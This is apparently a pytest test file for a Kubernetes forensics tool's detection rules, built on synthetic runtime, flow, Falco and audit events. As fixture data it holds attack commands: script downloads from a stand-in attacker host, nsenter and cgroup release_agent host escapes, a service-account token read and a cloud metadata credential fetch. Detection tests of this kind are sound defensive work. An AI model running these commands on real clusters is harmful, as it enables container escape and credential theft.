"""Runtime and flow rules, and the context rules that join tables, on the smallest events
that show what they must and must not match."""

from __future__ import annotations

import pandas as pd

from k8sforensics.detect import RUNTIME_RULES, Evidence
from k8sforensics.detect import flow_rules as fr
from k8sforensics.detect import runtime_rules as rr
from k8sforensics.detect.engine import run_rules, set_where
from tests.event_frames import audit, frame


def proc(
    time: str, process: str, args: str, *, parent: str = "/bin/sh", pod: str = "web-1", namespace: str = "shop", **kw
) -> dict:
    return {
        "time": time,
        "event_type": "exec",
        "source": "tetragon",
        "process": process,
        "args": args,
        "cmdline": f"{process} {args}",
        "parent_process": parent,
        "namespace": namespace,
        "pod": pod,
        "container_id": "c" * 64,
        **kw,
    }


def flow(
    time: str,
    src: str,
    dst: str,
    port: int,
    *,
    src_pod: str | None = None,
    src_ns: str | None = None,
    verdict: str = "allowed",
    source: str = "hubble",
    **kw,
) -> dict:
    return {
        "time": time,
        "src_ip": src,
        "dst_ip": dst,
        "dst_port": port,
        "protocol": "TCP",
        "verdict": verdict,
        "is_reply": False,
        "src_pod": src_pod,
        "src_namespace": src_ns,
        "src_kind": "pod" if src_pod else "external",
        "source": source,
        **kw,
    }


def test_shell_from_an_app_is_the_foothold_when_outside_traffic_came_first() -> None:
    rt = frame(
        "runtime",
        proc("2026-01-01T10:10:00Z", "/bin/sh", "-c id", parent="/usr/bin/java"),
        proc("2026-01-01T10:20:00Z", "/bin/sh", "-c id", parent="/usr/bin/java", pod="cart-1"),
        proc("2026-01-01T10:30:00Z", "/bin/sh", "-c id", parent="/usr/bin/containerd-shim"),
    )
    fl = frame(
        "flows",
        {
            **flow("2026-01-01T10:09:50Z", "198.51.100.66", "10.1.0.5", 8080),
            "dst_pod": "web-1",
            "dst_namespace": "shop",
        },
    )
    hits = rr.shell_from_app(Evidence(runtime=rt, flows=fl))
    assert hits["entity"].tolist() == ["shop/web-1", "shop/cart-1"]
    assert hits.loc[0, "source_ip"] == "198.51.100.66" and pd.isna(
        hits.loc[0].get("technique_id")
    )  # the rule's MS-TA9004
    assert len(hits.loc[0, "event_ids"]) == 2  # the shell and the inbound flow
    assert hits.loc[1, "technique_id"] == "MS-TA9009"


def test_download_ignores_in_cluster_and_localhost_urls() -> None:
    rt = frame(
        "runtime",
        proc("2026-01-01T10:00:00Z", "/usr/bin/wget", "-q -O- http://localhost:8443/healthz"),
        proc("2026-01-01T10:00:01Z", "/usr/bin/curl", "http://api.payments.svc.cluster.local/x"),
        proc("2026-01-01T10:00:02Z", "/usr/bin/curl", "-s http://198.51.100.66/x.sh"),
        proc("2026-01-01T10:00:03Z", "/usr/bin/curl", "-so /tmp/a https://evil.example/a"),
    )
    hits = rr.download_tool(Evidence(runtime=rt))
    assert hits["destination_ip"].tolist() == ["198.51.100.66", "evil.example"]


def test_host_escape_needs_the_host_pid() -> None:
    rt = frame(
        "runtime",
        proc("2026-01-01T10:00:00Z", "/usr/bin/nsenter", "-t 1 -m -u -n -i -p /bin/bash", node="n2"),
        proc("2026-01-01T10:00:01Z", "/usr/bin/nsenter", "-t 4242 -n ip a"),
        proc("2026-01-01T10:00:02Z", "/bin/sh", "-c echo x > /sys/fs/cgroup/rdma/release_agent"),
    )
    hits = rr.host_escape(Evidence(runtime=rt))
    assert len(hits) == 1 and len(hits.loc[0, "event_ids"]) == 2 and "node n2" in hits.loc[0, "summary"]


def test_token_read_by_exec_but_not_by_an_unrelated_path() -> None:
    rt = frame(
        "runtime",
        proc("2026-01-01T10:00:00Z", "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
        proc("2026-01-01T10:00:01Z", "/bin/cat", "/var/run/secrets/other/file"),
    )
    assert len(rr.token_read(Evidence(runtime=rt))) == 1


def test_falco_alerts_are_mapped_by_rule_or_by_tags() -> None:
    rt = frame(
        "runtime",
        {
            "time": "2026-01-01T10:00:00Z",
            "source": "falco",
            "event_type": "alert",
            "rule": "Launch Privileged Container",
            "priority": "Warning",
            "tags": ["container"],
            "container_id": "abcdefabcdef",
        },
        {
            "time": "2026-01-01T10:00:01Z",
            "source": "falco",
            "event_type": "alert",
            "rule": "Something New",
            "priority": "Critical",
            "tags": ["mitre_discovery", "T1613"],
            "namespace": "a",
            "pod": "p",
        },
    )
    hits = rr.falco_alerts(Evidence(runtime=rt))
    assert hits[["technique_id", "attack_id", "severity"]].fillna("-").values.tolist() == [
        ["MS-TA9018", "T1611", "high"],
        ["-", "T1613", "critical"],
    ]
    assert (
        hits.loc[1, "kill_chain_phase"] == "Actions on Objectives" and hits.loc[0, "entity"] == "container abcdefabcdef"
    )
    assert hits["rule_source"].tolist() == ["falco:Launch Privileged Container", "falco:Something New"]


def test_port_scan_threshold_and_phase() -> None:
    rows = [
        flow(f"2026-01-01T10:00:{i:02d}Z", "198.51.100.66", "10.0.1.1", 1000 + i, verdict="denied") for i in range(10)
    ]
    hits = fr.port_scan(Evidence(flows=frame("flows", *rows)))
    assert (
        len(hits) == 1
        and hits.loc[0, "kill_chain_phase"] == "Reconnaissance"
        and "10 address:port" in hits.loc[0, "summary"]
    )
    assert fr.port_scan(Evidence(flows=frame("flows", *rows[:9]))).empty


def test_beaconing_is_regular_and_irregular_traffic_is_not() -> None:
    regular = [
        flow(f"2026-01-01T10:{5 * i:02d}:00Z", "10.1.0.5", "203.0.113.77", 443, src_pod="x", src_ns="k")
        for i in range(5)
    ]
    irregular = [
        flow(t, "10.1.0.6", "203.0.113.78", 443, src_pod="y", src_ns="k")
        for t in (
            "2026-01-01T10:00:00Z",
            "2026-01-01T10:00:20Z",
            "2026-01-01T10:09:00Z",
            "2026-01-01T10:10:00Z",
            "2026-01-01T11:30:00Z",
        )
    ]
    hits = fr.beaconing(Evidence(flows=frame("flows", *regular, *irregular)))
    assert hits["entity"].tolist() == ["k/x"] and "every ~300 s" in hits.loc[0, "summary"]


def test_exec_then_a_new_outside_connection_but_not_an_old_one() -> None:
    au = frame(
        "audit",
        audit(
            "2026-01-01T10:00:00Z",
            "mallory",
            "create",
            "pods",
            subresource="exec",
            object_namespace="k",
            object_name="x",
            code=101,
        ),
    )
    fl = frame(
        "flows",
        flow("2026-01-01T09:00:00Z", "10.1.0.5", "203.0.113.5", 443, src_pod="x", src_ns="k"),
        flow("2026-01-01T10:02:00Z", "10.1.0.5", "203.0.113.5", 443, src_pod="x", src_ns="k"),
        flow("2026-01-01T10:03:00Z", "10.1.0.5", "203.0.113.77", 443, src_pod="x", src_ns="k"),
        flow("2026-01-01T10:30:00Z", "10.1.0.5", "203.0.113.99", 443, src_pod="x", src_ns="k"),
    )
    hits = fr.exec_then_egress(Evidence(audit=au, flows=fl))
    assert hits["destination_ip"].tolist() == ["203.0.113.77"]
    assert hits.loc[0, "time"] == pd.Timestamp("2026-01-01T10:00:00Z") and len(hits.loc[0, "event_ids"]) == 2


def test_metadata_service_from_a_pod_not_from_a_node() -> None:
    fl = frame(
        "flows",
        flow("2026-01-01T10:00:00Z", "10.1.0.5", "169.254.169.254", 80, src_pod="x", src_ns="k"),
        {**flow("2026-01-01T10:00:00Z", "10.0.1.11", "169.254.169.254", 80), "src_kind": "node"},
    )
    assert fr.metadata_service(Evidence(flows=fl))["entity"].tolist() == ["k/x"]


def test_metadata_queries_and_credential_fetches_are_told_apart() -> None:
    rt = frame(
        "runtime",
        proc("2026-01-01T10:00:00Z", "/usr/bin/curl", "http://169.254.169.254/latest/meta-data/instance-id"),
        proc(
            "2026-01-01T10:00:01Z",
            "/usr/bin/curl",
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role",
            pod="p2",
        ),
    )
    ev = Evidence(runtime=rt)
    assert rr.imds_from_container(ev)["pod"].tolist() == ["web-1"]
    assert rr.imds_credentials(ev)["pod"].tolist() == ["p2"]


def test_two_footholds_both_reached_from_outside_give_readable_findings() -> None:
    """Two hits, both from outside: no hit takes the in-cluster technique. pandas 3 made the
    columns set on no rows void-typed when a frame had as many rows as columns were set, and
    the engine then failed on ``isna`` (a case holding two breaches)."""
    rt = frame(
        "runtime",
        proc("2026-01-01T10:10:00Z", "/bin/sh", "-c id", parent="/usr/bin/java"),
        proc("2026-01-01T10:10:00Z", "/bin/sh", "-c id", parent="/usr/bin/java", pod="web-2"),
    )
    fl = frame(
        "flows",
        {
            **flow("2026-01-01T10:09:50Z", "198.51.100.66", "10.1.0.5", 8080),
            "dst_pod": "web-1",
            "dst_namespace": "shop",
        },
        {
            **flow("2026-01-01T10:09:50Z", "198.51.100.66", "10.1.0.6", 8080),
            "dst_pod": "web-2",
            "dst_namespace": "shop",
        },
    )
    hits = rr.shell_from_app(Evidence(runtime=rt, flows=fl))
    assert len(hits) == 2 and hits["technique_id"].dtype.kind == "O" and hits["technique_id"].isna().all()
    rule = next(r for r in RUNTIME_RULES if r.id == "rt-shell-from-app")
    out, _ = run_rules(Evidence(runtime=rt, flows=fl), [rule])
    assert out["technique_id"].tolist() == ["MS-TA9004", "MS-TA9004"] and out["severity"].tolist() == [
        "critical",
        "critical",
    ]


def test_set_where_builds_whole_columns_for_any_mask() -> None:
    for rows in (1, 2, 3):
        hits = pd.DataFrame({"time": pd.Timestamp("2026-01-01", tz="UTC"), "severity": ["high"] * rows})
        set_where(hits, [False] * rows, tactic="Execution", technique_id="MS-TA9009")
        assert hits["tactic"].isna().all() and hits["technique_id"].dtype == object
        set_where(hits, [True] + [False] * (rows - 1), severity="critical")
        assert hits["severity"].tolist() == ["critical"] + ["high"] * (rows - 1)


def test_beaconing_counts_a_burst_of_connections_once() -> None:
    # two connections at each check-in (two sources behind one pod, or a beacon opening two)
    burst = [
        flow(f"2026-01-01T10:{5 * i:02d}:0{k}Z", "10.1.0.5", "203.0.113.77", 443, src_pod="x", src_ns="k")
        for i in range(5)
        for k in (0, 0)
    ]
    # three check-ins of three connections each: nine connections, but too few check-ins
    few = [
        flow(f"2026-01-01T10:0{i}:00Z", "10.1.0.7", "203.0.113.88", 3333, src_pod="m", src_ns="k")
        for i in range(3)
        for _ in range(3)
    ]
    hits = fr.beaconing(Evidence(flows=frame("flows", *burst, *few)))
    assert hits["entity"].tolist() == ["k/x"] and "every ~300 s" in hits.loc[0, "summary"]
